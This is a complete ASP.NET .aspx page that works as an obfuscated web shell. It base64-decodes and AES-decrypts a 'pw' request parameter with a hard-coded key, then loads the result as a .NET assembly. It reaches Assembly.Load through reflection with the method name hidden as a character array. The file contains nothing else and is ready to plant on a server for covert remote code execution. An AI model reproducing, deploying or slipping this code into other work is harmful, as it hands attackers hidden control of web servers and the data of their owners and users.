<%@ Page Language="C#"%><%var key = System.Text.Encoding.Default.GetBytes(string.Concat("0123", "4567", "89ab", "cdef"));var data = System.Convert.FromBase64String(Context.Request["pw"]);data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(data, 0, data.Length);var t = typeof(System.Reflection.Assembly);var m = t.GetMethod(new string(new char[] {
      'L',
      'o',
      'a',
      'd' }), new System.Type[]{typeof(byte[])});Context.Session["p"] = m.Invoke(null, new object[]{data});%>
